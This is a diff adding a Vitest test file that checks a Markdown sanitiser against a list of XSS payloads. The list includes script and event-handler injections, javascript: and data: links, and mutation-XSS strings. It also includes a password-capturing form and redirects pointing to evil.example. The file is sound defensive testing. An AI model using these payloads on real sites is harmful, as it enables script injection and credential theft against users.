@@ -1,0 +1,72 @@
+// @vitest-environment jsdom
+import { describe, expect, it } from "vitest";
+import { marked } from "marked";
+import { sanitise } from "./sanitise";
+
+const render = (markdown: string): HTMLElement => {
+  const host = document.createElement("div");
+  host.append(sanitise(marked.parse(markdown, { async: false })));
+  return host;
+};
+
+// happy-dom makes the purifier useless, so these run in jsdom here and again in the real browser.
+const attacks = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt:alert(1))",
+  "[click](java\tscript:alert(1))",
+  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[click](vbscript:msgbox(1))",
+  "![x](javascript:alert(1))",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data='javascript:alert(1)'></object>",
+  "<embed src='javascript:alert(1)'>",
+  "<form action='https://evil.example'><input name=password><button>Go</button></form>",
+  "<a href='https://ok.example' onclick='alert(1)'>x</a>",
+  "<base href='https://evil.example'>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<link rel=stylesheet href='https://evil.example/x.css'>",
+  "<style>@import 'https://evil.example/x.css'</style>",
+  "<p style='background:url(https://evil.example/p.png)'>x</p>",
+  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+  "<textarea></textarea><img src=x onerror=alert(1)>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video><source onerror=alert(1)></video>",
+  "<template><script>alert(1)</script></template>",
+  "<x id=a tabindex=1 onfocus=alert(1)>x</x>",
+  "<a href='//evil.example'>x</a>",
+];
+
+describe("sanitise", () => {
+  it.each(attacks)("disarms %s", (attack) => {
+    const host = render(attack);
+    expect(host.querySelector("script, style, iframe, object, embed, form, base, meta, link, svg, math, img, video, template, button, textarea")).toBeNull();
+    for (const element of host.querySelectorAll("*")) {
+      for (const name of element.getAttributeNames()) {
+        expect(name.startsWith("on"), `${element.tagName} ${name}`).toBe(false);
+        expect(name).not.toBe("style");
+        if (name === "href") expect(element.getAttribute(name)).toMatch(/^(https?:|mailto:|tel:|#|\/(?!\/))/);
+      }
+    }
+  });
+
+  it("keeps what people write", () => {
+    const host = render("# T\n\n**b** _i_ `c` [l](https://example.org) ~~s~~\n\n- [x] done\n\n| a |\n|---|\n| 1 |");
+    expect(host.querySelector("h1")!.textContent).toBe("T");
+    expect(host.querySelector("a")!.rel).toBe("noopener noreferrer nofollow");
+    expect(host.querySelector("input")!.disabled).toBe(true);
+    expect(host.querySelector(".table-frame table")).not.toBeNull();
+    expect(host.querySelector("p")!.dir).toBe("auto");
+    expect(host.querySelector("code")!.dir).toBe("ltr");
+  });
+
+  it("shows images of other servers as links instead of loading them", () => {
+    const host = render("![a cat](https://tracker.example/cat.png)");
+    expect(host.querySelector("img")).toBeNull();
+    expect(host.querySelector("a.image-link")!.textContent).toBe("a cat");
+  });
+});
